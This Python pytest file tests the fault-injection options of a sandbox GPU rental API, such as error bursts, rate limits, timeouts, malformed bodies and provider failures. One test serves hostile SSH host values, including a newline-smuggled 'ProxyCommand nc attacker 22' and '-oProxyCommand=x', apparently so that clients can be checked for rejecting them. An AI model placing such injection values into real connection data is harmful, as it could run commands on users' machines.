"""Every fault knob does what the client's tests rely on, and counts down."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from gpuoutlet_jupyter.sandbox.testing import SandboxAccount, SandboxProcess, wait_for_status

BODY = {"familyId": "rtx-4090", "gpuCount": 1}


@pytest.fixture
def account(sandbox: SandboxProcess) -> Iterator[SandboxAccount]:
    yield sandbox.create_account(balance_cents=10_000)
    sandbox.set_faults({})


def create(http: httpx.Client) -> dict[str, Any]:
    response = http.post("/v1/rentals", json=BODY)
    assert response.status_code == 200, response.text
    rental: dict[str, Any] = response.json()
    return rental


@pytest.mark.parametrize(
    ("status", "code"), [(503, "unavailable"), (500, "internal_error"), (502, "internal_error")]
)
def test_error_burst_fails_that_many_requests_then_recovers(
    sandbox: SandboxProcess, account: SandboxAccount, status: int, code: str
) -> None:
    sandbox.set_faults({"errorBurst": {"status": status, "count": 2}})
    with sandbox.client(account.sid) as http:
        for remaining in (1, 0):
            response = http.post("/v1/rentals", json=BODY)
            assert response.status_code == status
            assert response.json()["error"]["code"] == code
            assert sandbox.faults()["errorBurst"]["count"] == remaining
        assert http.get("/v1/rentals").json() == {"rentals": []}  # the failed creates did nothing
        assert http.get("/v1/wallet").status_code == 200
    assert sandbox.ledger(account.account_id)["reservedCents"] == 0


def test_rate_limit_burst_is_429_with_retry_after(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"rateLimitBurst": {"count": 1, "retryAfterSeconds": 7}})
    with sandbox.client(account.sid) as http:
        limited = http.get("/v1/rentals")
        assert limited.status_code == 429
        assert limited.headers["Retry-After"] == "7"
        error = limited.json()["error"]
        assert (error["code"], error["retryAfterSeconds"]) == ("rate_limited", 7)
        assert http.get("/v1/rentals").status_code == 200


def test_slow_responses_trip_a_client_timeout_once(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"slowResponseSeconds": 2.0, "slowCount": 1})
    with sandbox.client(account.sid, timeout=0.3) as http:
        with pytest.raises(httpx.ReadTimeout):
            http.get("/v1/wallet")
        assert http.get("/v1/wallet").status_code == 200


def test_malformed_body_is_a_200_that_does_not_parse_but_the_create_happened(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"malformedCount": 1})
    with sandbox.client(account.sid) as http:
        response = http.post("/v1/rentals", json=BODY)
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/json"
        with pytest.raises(json.JSONDecodeError):
            json.loads(response.content)
        # Like a response lost on the way back: the rental exists (retry with an Idempotency-Key).
        assert len(http.get("/v1/rentals").json()["rentals"]) == 1


def test_hostile_host_and_port_are_served_as_is(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    hostile = "evil\nProxyCommand nc attacker 22"
    sandbox.set_faults({"hostileHost": hostile, "hostilePort": 70000})
    with sandbox.client(account.sid) as http:
        rental = create(http)
        running = wait_for_status(http, rental["id"], {"running", "failed"})
        assert (running["status"], running["host"], running["port"]) == ("running", hostile, 70000)
        sandbox.set_faults({"hostileHost": "-oProxyCommand=x", "hostilePort": 0})
        second = wait_for_status(http, create(http)["id"], {"running", "failed"})
        assert (second["host"], second["port"]) == ("-oProxyCommand=x", 0)


def test_provider_failure_rate_fails_boots_and_refunds(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"providerFailureRate": 1.0})
    with sandbox.client(account.sid) as http:
        failed = wait_for_status(http, create(http)["id"], {"running", "failed"})
    assert failed["status"] == "failed"
    assert failed["error"].startswith("provider: host gpu-fi-")
    assert "did not boot" in failed["error"]
    assert sandbox.ledger(account.account_id)["availableCents"] == 10_000


def test_never_ready_keeps_rentals_provisioning_until_lifted(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"neverReady": True})
    with sandbox.client(account.sid) as http:
        rental = create(http)
        sandbox.advance(600)  # far past any provision delay
        sandbox.tick()
        assert http.get(f"/v1/rentals/{rental['id']}").json()["status"] == "provisioning"
        sandbox.set_faults({})
        assert wait_for_status(http, rental["id"], {"running"})["port"] is not None


def test_provider_latency_holds_the_create(
    sandbox: SandboxProcess, account: SandboxAccount
) -> None:
    sandbox.set_faults({"providerLatencySeconds": 1.0})
    with sandbox.client(account.sid, timeout=0.2) as http:
        with pytest.raises(httpx.ReadTimeout):
            http.post("/v1/rentals", json=BODY)
    # The create still completes server-side once the provider answers.
    with sandbox.client(account.sid) as http:
        deadline = time.monotonic() + 10
        while not http.get("/v1/rentals").json()["rentals"]:
            assert time.monotonic() < deadline, "the slow create never landed"
            time.sleep(0.05)


def test_faults_are_validated(sandbox: SandboxProcess, account: SandboxAccount) -> None:
    for bad in (
        {"providerFailureRate": 1.5},
        {"errorBurst": {"status": 404, "count": 1}},
        {"typo": True},
    ):
        response = sandbox.admin.put("/sandbox/faults", json=bad)
        assert response.status_code == 400
        assert response.json()["error"]["code"] == "validation_error"
    assert sandbox.faults()["providerFailureRate"] == 0.0
